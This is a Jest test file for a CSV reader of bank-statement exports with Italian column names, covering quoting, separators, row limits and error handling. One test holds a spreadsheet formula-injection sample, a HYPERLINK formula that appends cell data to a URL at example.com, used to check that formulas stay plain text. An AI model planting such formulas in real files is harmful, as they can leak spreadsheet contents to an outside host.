import { describe, expect, it } from '@jest/globals';
import { readCsv } from './read-csv';
import type { StatementEntry } from './statement-row';

async function readAll(file: string): Promise<StatementEntry[]> {
  const entries: StatementEntry[] = [];
  for await (const entry of readCsv(file)) entries.push(entry);
  return entries;
}
const read = (...lines: string[]) => readAll(lines.join('\n'));
const ROW = {
  line: 2,
  date: '22/11/2026',
  amount: '150,00',
  currency: 'EUR',
  payer: 'Rossi',
  text: 'quota',
  reference: 'A1',
};

describe('a statement as CSV', () => {
  it('may have semicolons or commas, CRLF, and columns in any order and case', async () => {
    expect(await read('data;importo;ordinante;causale;riferimento', '22/11/2026;150,00;Rossi;quota;A1')).toEqual([ROW]);
    expect(
      await read(' CAUSALE,Riferimento,Data,altro,"Importo",ordinante\r', 'quota,A1,22/11/2026,x,"150,00",Rossi\r', ''),
    ).toEqual([ROW]);
  });

  it('may have quoted separators, quotation marks and line breaks, and says on which line a row begins', async () => {
    const rows = await read(
      'data;importo;causale',
      '1/1/2026;1;"una; due""',
      'tre"',
      '',
      '2/1/2026;2;ultima "tra virgolette"',
    );
    expect(rows).toMatchObject([
      { line: 2, text: 'una; due"\ntre' },
      { line: 5, text: 'ultima "tra virgolette"' },
    ]);
  });

  it('may leave cells out or have too many', async () => {
    expect(await read('data;importo;causale;riferimento', '1/1/2026;1', '1/1/2026;1;a;b;c;d')).toMatchObject([
      { text: '', reference: '', payer: '' },
      { text: 'a', reference: 'b' },
    ]);
  });

  it('keeps formulas as text', async () => {
    const formula = `=HYPERLINK("http://example.com?x="&A1)`;
    const [row] = await read('data;importo;causale', `1/1/2026;1;"${formula.replaceAll('"', '""')}"`);
    expect(row).toMatchObject({ text: formula });
  });

  it('ends with a refusal where a quotation mark is never closed', async () => {
    const rows = await read('data;importo;causale', '1/1/2026;1;a', '2/1/2026;2;"b', '3/1/2026;3;c');
    expect(rows).toMatchObject([{ line: 2 }, { reason: expect.stringContaining('virgolette') }]);
    const endless = await read('data;importo;causale', `2/1/2026;2;"${'b\n'.repeat(20_000)}`);
    expect(endless).toMatchObject([{ reason: expect.stringContaining('virgolette') }]);
  });

  it.each([
    ['an empty file', ''],
    ['empty lines', '\n\n'],
  ])('is refused as %s', (_, file) => {
    return expect(readAll(file)).rejects.toEqual(expect.objectContaining({ key: 'payments.fileUnreadable' }));
  });

  it.each(['importo;causale', 'data;causale', 'data;importo', 'x'])('is refused with the header %j', (header) => {
    return expect(read(header, '1;2')).rejects.toEqual(expect.objectContaining({ key: 'payments.columnsMissing' }));
  });

  it('is read up to 50,000 rows, and says from where on it was not', async () => {
    const rows = await readAll(`data;importo;causale\n${'x;;\n'.repeat(50_001)}`);
    expect(rows).toHaveLength(50_001);
    expect(rows.at(-2)).toMatchObject({ line: 50_001, date: 'x' });
    expect(rows.at(-1)).toMatchObject({ line: 50_002, reason: expect.stringContaining('50.000 righe') });
  });

  it('keeps letters whole where a piece of the file ends', async () => {
    const text = 'ù'.repeat(9_000);
    for (const shift of ['', 'x']) {
      const rows = await read('data;importo;causale', `1/1/2026;1;${shift}`, `1/1/2026;1;${text}`);
      expect(rows.at(-1)).toMatchObject({ text });
    }
  });

  it('lets other work go on while it is read', async () => {
    let [turns, isRead] = [0, false];
    const count = () => {
      turns += 1;
      if (!isRead) setImmediate(count);
    };
    setImmediate(count);
    await readAll(`data;importo;causale\n${'1/1/2026;1;rata\n'.repeat(20_000)}`);
    isRead = true;
    // 320 kB in pieces of 16 KiB.
    expect(turns).toBeGreaterThanOrEqual(20);
  });
});
